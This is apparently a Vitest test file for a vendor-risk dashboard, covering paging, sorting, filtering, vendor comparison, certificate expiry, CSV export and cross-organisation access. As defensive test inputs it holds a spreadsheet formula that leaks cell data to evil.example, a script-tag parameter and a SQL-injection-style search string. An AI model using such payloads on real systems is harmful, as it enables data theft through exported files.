import Papa from 'papaparse'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { addDays } from '#app/assessment/dates.ts'
import { createEngagement, createOrganisation, logIn } from '#test/support/accounts.ts'
import { BrowserClient } from '#test/support/browser-client.ts'
import { addVendor } from '#test/support/dashboard-vendors.ts'
import { startTestServer, type TestServer } from '#test/support/test-server.ts'

let server: TestServer
beforeAll(async () => {
  server = await startTestServer()
})
afterAll(async () => {
  await server.close()
})

async function buyerWithEngagement() {
  const org = await createOrganisation('Harbor Bank')
  const engagementId = await createEngagement(org.organisationId, 'Card disputes')
  const buyer = new BrowserClient(server.baseUrl)
  await logIn(buyer, org)
  return { org, engagementId, buyer, scope: { organisationId: org.organisationId, engagementId } }
}

/** Vendor names in table order: each row's header cell (the chart and checkbox labels repeat them). */
function tableNames(html: string, pattern = /Vendor \d{2}/): string[] {
  const body = html.slice(html.indexOf('<tbody>'), html.indexOf('</tbody>'))
  const cells = [...body.matchAll(/<th scope="row"[^>]*>(?:<a [^>]*>|<strong>)([^<]+)</g)].map((m) => m[1] ?? '')
  return cells.filter((cell) => pattern.test(cell))
}

const VERDICTS = ['approve', 'approve-with-conditions', 'reject'] as const
const name = (i: number) => `Vendor ${String(i).padStart(2, '0')}`

describe('the engagement dashboard', () => {
  // 60 assessed vendors with distinct scores (score = 30 + i), verdicts cycling, a few decisions.
  let ctx: Awaited<ReturnType<typeof buyerWithEngagement>>
  let page: string
  const ids: string[] = []
  beforeAll(async () => {
    ctx = await buyerWithEngagement()
    page = `/app/engagements/${ctx.engagementId}`
    for (let i = 1; i <= 60; i++) {
      ids.push(
        await addVendor(ctx.scope, {
          company: name(i),
          email: `v${i}@vendor${i % 2 ? '-odd' : ''}.example`,
          assessment: {
            score: 30 + i,
            verdict: VERDICTS[i % 3]!,
            locationClass: i % 2 ? 'offshore' : 'nearshore',
            blockers: i % 3 === 2 ? 1 + (i % 4) : 0,
          },
          decision: i === 7 ? 'shortlisted' : i === 8 ? 'approved' : undefined,
        }),
      )
    }
    await addVendor(ctx.scope, { company: 'Late Vendor', status: 'opened', expired: true })
  })

  test('shows 50 vendors a page, best score first, with the range and working page links', async () => {
    const first = await ctx.buyer.get(page)
    expect(first.status).toBe(200)
    const html = await first.text()
    const names = tableNames(html)
    expect(names).toHaveLength(50)
    expect(names.slice(0, 3)).toEqual([name(60), name(59), name(58)])
    expect(html).toContain('Showing 1–50 of 61')
    expect(html).toContain('61 vendors')
    expect(html).toMatch(/<th aria-sort="descending"><a[^>]*>Score/)
    expect(html).toContain(`href="/app/engagements/${ctx.engagementId}?page=2"`)

    const second = await (await ctx.buyer.get(`${page}?page=2`)).text()
    expect(second).toContain('Showing 51–61 of 61')
    // The unassessed vendor sorts last whatever the direction.
    expect(tableNames(second, /Vendor \d{2}|Late Vendor/)).toEqual([
      ...Array.from({ length: 10 }, (_, i) => name(10 - i)),
      'Late Vendor',
    ])
    const ascending = await (await ctx.buyer.get(`${page}?sort=score&dir=asc&page=2`)).text()
    expect(tableNames(ascending, /Vendor \d{2}|Late Vendor/).at(-1)).toBe('Late Vendor')
  })

  test('sorts by name and by blockers, ties broken by name, through header links that keep the filters', async () => {
    const byName = await (await ctx.buyer.get(`${page}?sort=vendor&verdict=reject`)).text()
    const rejectNames = Array.from({ length: 60 }, (_, i) => i + 1)
      .filter((i) => i % 3 === 2)
      .map(name)
    expect(tableNames(byName)).toEqual(rejectNames)
    expect(byName).toMatch(/aria-sort="ascending"><a[^>]*>Vendor/)
    // The header flips the direction and keeps the verdict filter.
    expect(byName).toContain(`href="/app/engagements/${ctx.engagementId}?sort=vendor&amp;dir=desc&amp;verdict=reject"`)

    const byBlockers = await (await ctx.buyer.get(`${page}?sort=blockers&verdict=reject`)).text()
    const expected = [...rejectNames].sort((a, b) => {
      const blockers = (n: string) => 1 + (Number(n.slice(-2)) % 4)
      return blockers(b) - blockers(a) || a.localeCompare(b)
    })
    expect(tableNames(byBlockers)).toEqual(expected)
  })

  test('filters by verdict, location, decision, status and a search on name or email, with counts by verdict', async () => {
    const rejects = await (await ctx.buyer.get(`${page}?verdict=reject`)).text()
    expect(tableNames(rejects)).toHaveLength(20)
    expect(rejects).toContain('20 vendors')
    expect(rejects).toContain('Reject: 20')

    const offshoreApprove = await (await ctx.buyer.get(`${page}?verdict=approve&location=offshore`)).text()
    // approve: i % 3 === 0; offshore: odd i
    expect(tableNames(offshoreApprove).sort()).toEqual(
      Array.from({ length: 60 }, (_, i) => i + 1)
        .filter((i) => i % 3 === 0 && i % 2 === 1)
        .map(name),
    )

    const shortlisted = await (await ctx.buyer.get(`${page}?decision=shortlisted`)).text()
    expect(tableNames(shortlisted)).toEqual([name(7)])
    expect(shortlisted).toContain('Shortlisted')
    const undecided = await (await ctx.buyer.get(`${page}?decision=none`)).text()
    expect(undecided).toContain('Showing 1–50 of 59')

    const expired = await (await ctx.buyer.get(`${page}?status=expired`)).text()
    expect(tableNames(expired, /Vendor \d{2}|Late Vendor/)).toEqual(['Late Vendor'])
    expect(expired).toContain('Link expired')

    const byEmail = await (await ctx.buyer.get(`${page}?q=1%40vendor-odd`)).text()
    expect(tableNames(byEmail).sort()).toEqual([1, 11, 21, 31, 41, 51].map(name))
    const byName = await (await ctx.buyer.get(`${page}?q=vendor%2005`)).text()
    expect(tableNames(byName)).toEqual([name(5)])
    // % and _ are searched for literally, not as wildcards.
    const wildcard = await (await ctx.buyer.get(`${page}?q=%25`)).text()
    expect(wildcard).toContain('No vendor matches these filters')
  })

  test('each vendor links to its report; assessed ones can be ticked for the comparison form (2 to 6, in the URL)', async () => {
    const html = await (await ctx.buyer.get(`${page}?v=${ids[59]}&v=${ids[58]}`)).text()
    expect(html).toContain(`href="/app/engagements/${ctx.engagementId}/vendors/${ids[59]}"`)
    // A vendor without an assessment links to its report too (which says it has none yet).
    const last = await (await ctx.buyer.get(`${page}?page=2`)).text()
    const late = last.match(/<a [^>]*href="([^"]+)"[^>]*>Late Vendor<\/a>/)?.[1] ?? ''
    expect(late).toMatch(new RegExp(`^/app/engagements/${ctx.engagementId}/vendors/`))
    expect((await ctx.buyer.get(late)).status).toBe(200)
    expect(html).toContain(`<form id="compare-form" method="get" action="/app/engagements/${ctx.engagementId}/compare"`)
    expect(html).toContain('Tick 2 to 6 assessed vendors')
    const boxes = html.match(/<input type="checkbox" name="v"[^>]*>/g) ?? []
    expect(boxes).toHaveLength(50)
    // Every box is a field of the compare form (inside it), so "Compare selected" sends it.
    const formStart = html.indexOf('<form id="compare-form"')
    const formEnd = html.indexOf('</form>', formStart)
    expect(
      [...html.matchAll(/<input type="checkbox" name="v"/g)].every((m) => m.index > formStart && m.index < formEnd),
    ).toBe(true)
    // Each box is named by its column and its vendor ("Compare Vendor 60").
    const named = boxes[0]?.match(/aria-labelledby="cmp (n\d+)"/)?.[1]
    expect(html).toMatch(new RegExp(`<a [^>]*id="${named}"[^>]*>Vendor 60</a>`))
    expect(boxes.filter((b) => b.includes('checked'))).toHaveLength(2)
    expect(boxes.find((b) => b.includes(ids[59]!))).toContain('checked')
  })

  test('vendors ticked on one page stay ticked on another, after a sort and a filter, and all go to the comparison', async () => {
    // Vendor 60 is on page 1 (best score), Vendor 01 on page 2.
    const [onFirst, onSecond] = [ids[59]!, ids[0]!]
    const selection = `v=${onFirst}&v=${onSecond}`
    const first = await (await ctx.buyer.get(`${page}?${selection}`)).text()
    const hidden = (html: string) =>
      [...html.matchAll(/<input type="hidden" name="v" value="([^"]+)"/g)].map((m) => m[1])
    const compareForm = (html: string) =>
      html.slice(
        html.indexOf('<form id="compare-form"'),
        html.indexOf('</form>', html.indexOf('<form id="compare-form"')),
      )
    expect(first).toContain('2 selected')
    // The vendor ticked on page 2 rides along in the compare form; page 1's own box sends Vendor 60.
    expect(hidden(compareForm(first))).toEqual([onSecond])
    expect((first.match(/<input type="checkbox" name="v"[^>]*>/g) ?? []).find((b) => b.includes(onFirst))).toContain(
      'checked',
    )
    // Every link to another view carries the selection: pages, sorting, verdict counts, clearing.
    const amp = selection.replaceAll('&', '&amp;')
    expect(first).toContain(`href="/app/engagements/${ctx.engagementId}?page=2&amp;${amp}"`)
    expect(first).toContain(`href="/app/engagements/${ctx.engagementId}?sort=vendor&amp;${amp}"`)
    expect(first).toContain(`href="/app/engagements/${ctx.engagementId}?verdict=reject&amp;${amp}"`)
    // The filter form sends it too (hidden fields before the filters).
    const filters = first.slice(
      first.indexOf('dashboard-filters'),
      first.indexOf('</form>', first.indexOf('dashboard-filters')),
    )
    expect(hidden(filters)).toEqual([onFirst, onSecond])

    const second = await (await ctx.buyer.get(`${page}?page=2&${selection}`)).text()
    expect(hidden(compareForm(second))).toEqual([onFirst])
    expect((second.match(/<input type="checkbox" name="v"[^>]*>/g) ?? []).find((b) => b.includes(onSecond))).toContain(
      'checked',
    )
    // Not an id: dropped (the links carry the one real id, once).
    const odd = await (await ctx.buyer.get(`${page}?v=%3Cscript%3E&v=${onFirst}&v=${onFirst}`)).text()
    expect(odd).toContain('1 selected')
    expect(odd).toContain(`href="/app/engagements/${ctx.engagementId}?sort=vendor&amp;v=${onFirst}"`)
  })

  test('the first look leaves the score chart to the browser: no chart in the HTML, the table has every score', async () => {
    // The chart is drawn after hydration from the rows the page already carries (its 9 KiB kept the
    // 50-row page over its 60 KiB budget); the manager journey (e2e) checks it appears, bar by bar.
    const html = await (await ctx.buyer.get(`${page}?verdict=approve-with-conditions&sort=vendor`)).text()
    expect(html).not.toContain('<figure class="score-chart')
    expect(html).not.toContain('Bar chart of the scores')
    const table = html.slice(html.indexOf('<table'), html.indexOf('</table>'))
    expect(table.match(/<th scope="row">/g)).toHaveLength(20)
    expect(table.match(/badge verdict-approve-with-conditions/g)).toHaveLength(20)
  })
})

test('bad parameters fall back to defaults with a message on the page, and a 400 for the CSV; never a 500', async () => {
  const { engagementId, buyer, scope } = await buyerWithEngagement()
  await addVendor(scope, { company: 'Only Vendor', assessment: { score: 70, verdict: 'approve' } })
  const page = `/app/engagements/${engagementId}`
  const bad = await buyer.get(`${page}?sort=password_hash&dir=up&page=-1&verdict=maybe`)
  expect(bad.status).toBe(200)
  const html = await bad.text()
  expect(html).toContain('Sort &quot;password_hash&quot; is not valid and was ignored.')
  expect(html).toContain('Verdict &quot;maybe&quot; is not valid and was ignored.')
  expect(html).toContain('Only Vendor')
  const beyond = await buyer.get(`${page}?page=40`)
  expect(beyond.status).toBe(200)
  const beyondHtml = await beyond.text()
  expect(beyondHtml).toContain('There is no page 40; this is the last page.')
  expect(beyondHtml).toContain('Only Vendor')
  for (const query of [
    'page=99999999999999999999',
    'sort=score&sort=vendor',
    'q=%27%22%3B--',
    `q=${'x'.repeat(500)}`,
    'dir',
  ]) {
    expect((await buyer.get(`${page}?${query}`)).status).toBe(200)
  }

  const csv = await buyer.get(`${page}/dashboard.csv?sort=password_hash`)
  expect(csv.status).toBe(400)
  expect(await csv.text()).toBe('Sort "password_hash" is not valid and was ignored.')
})

test('empty states: no vendors yet, and no vendor matching the filters', async () => {
  const { engagementId, buyer, scope } = await buyerWithEngagement()
  const page = `/app/engagements/${engagementId}`
  const empty = await (await buyer.get(page)).text()
  expect(empty).toContain('No vendors invited yet')
  expect(empty).not.toContain('Download CSV')
  await addVendor(scope, { company: 'Only Vendor', assessment: { score: 70, verdict: 'approve' } })
  const none = await (await buyer.get(`${page}?verdict=reject`)).text()
  expect(none).toContain('No vendor matches these filters')
  expect(none).toMatch(new RegExp(`<a [^>]*href="${page}">show every vendor</a>`))
})

test('certificates ending within 90 days, and those already expired, are listed per vendor, in the page and the CSV', async () => {
  const { engagementId, buyer, scope } = await buyerWithEngagement()
  const today = new Date().toISOString().slice(0, 10)
  const soon = addDays(today, 30)
  const lastMonth = addDays(today, -30)
  await addVendor(scope, {
    company: 'Lapsed Vendor',
    assessment: { score: 70, verdict: 'approve' },
    certifications: [{ type: 'tisax', issued: addDays(today, -800), expires: lastMonth }],
  })
  await addVendor(scope, {
    company: 'Certified Vendor',
    assessment: { score: 80, verdict: 'approve' },
    certifications: [
      { type: 'iso27001', issued: addDays(today, -400), expires: soon },
      { type: 'hitrust-r2', issued: addDays(today, -10), expires: addDays(today, 600) },
    ],
  })
  const html = await (await buyer.get(`/app/engagements/${engagementId}`)).text()
  expect(html).toContain(`ISO 27001, ends ${soon}`)
  expect(html).toContain(`TISAX, expired ${lastMonth}`)
  expect(html).toContain('Certificates expired or ending within 90 days')
  expect(html).not.toContain('HITRUST')
  const csv = await (await buyer.get(`/app/engagements/${engagementId}/dashboard.csv`)).text()
  expect(csv).toContain(`ISO 27001, ends ${soon}`)
  expect(csv).toContain(`TISAX, expired ${lastMonth}`)
})

test('the CSV has every matching vendor (all pages) in the dashboard order, with formula cells escaped', async () => {
  const { engagementId, buyer, scope } = await buyerWithEngagement()
  const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
  await addVendor(scope, {
    company: evil,
    email: 'evil@vendor.example',
    assessment: { score: 99, verdict: 'reject', blockers: 2 },
    decision: 'rejected',
  })
  for (let i = 1; i <= 55; i++) {
    await addVendor(scope, { company: name(i), assessment: { score: i, verdict: 'approve' } })
  }
  await addVendor(scope, { company: '+Plus Vendor', status: 'in-progress' })

  const response = await buyer.get(`/app/engagements/${engagementId}/dashboard.csv`)
  expect(response.status).toBe(200)
  expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
  expect(response.headers.get('content-disposition')).toMatch(
    /^attachment; filename="Card-disputes-vendors-\d{4}-\d{2}-\d{2}\.csv"$/,
  )
  const text = await response.text()
  const rows = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data
  expect(rows[0]?.slice(0, 8)).toEqual([
    'Vendor',
    'Country',
    'Contact',
    'Email',
    'Status',
    'Submitted',
    'Score',
    'Verdict',
  ])
  expect(rows).toHaveLength(1 + 57)
  // Highest score first, the unassessed vendor last; formula-like names are text.
  expect(rows[1]?.[0]).toBe(`'${evil}`)
  expect(rows[1]?.slice(6, 8)).toEqual(['99', 'Reject'])
  expect(rows[1]?.[10]).toBe('2')
  expect(rows[1]?.[14]).toBe('Rejected')
  expect(rows[2]?.[0]).toBe(name(55))
  expect(rows[57]?.[0]).toBe("'+Plus Vendor")
  expect(rows[57]?.[4]).toBe('In progress')
  expect(rows[57]?.[6]).toBe('')

  const filtered = await (
    await buyer.get(`/app/engagements/${engagementId}/dashboard.csv?q=vendor%2001&sort=vendor`)
  ).text()
  const filteredRows = Papa.parse<string[]>(filtered.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data
  expect(filteredRows.map((r) => r[0])).toEqual(['Vendor', name(1)])
})

test("another organisation's dashboard and CSV are a 404", async () => {
  const { engagementId, scope } = await buyerWithEngagement()
  await addVendor(scope, { company: 'Secret Vendor', assessment: { score: 70, verdict: 'approve' } })
  const stranger = await createOrganisation('Other Org')
  const other = new BrowserClient(server.baseUrl)
  await logIn(other, stranger)
  const page = await other.get(`/app/engagements/${engagementId}?sort=vendor`)
  expect(page.status).toBe(404)
  expect(await page.text()).not.toContain('Secret Vendor')
  const csv = await other.get(`/app/engagements/${engagementId}/dashboard.csv`)
  expect(csv.status).toBe(404)
  expect(await csv.text()).toBe('Engagement not found')
  // Logged out: sent to the login page, not given the file.
  const anonymous = await new BrowserClient(server.baseUrl).get(`/app/engagements/${engagementId}/dashboard.csv`)
  expect(anonymous.status).toBe(302)
  expect(anonymous.headers.get('location')).toMatch(/^\/login\?redirectTo=/)
})
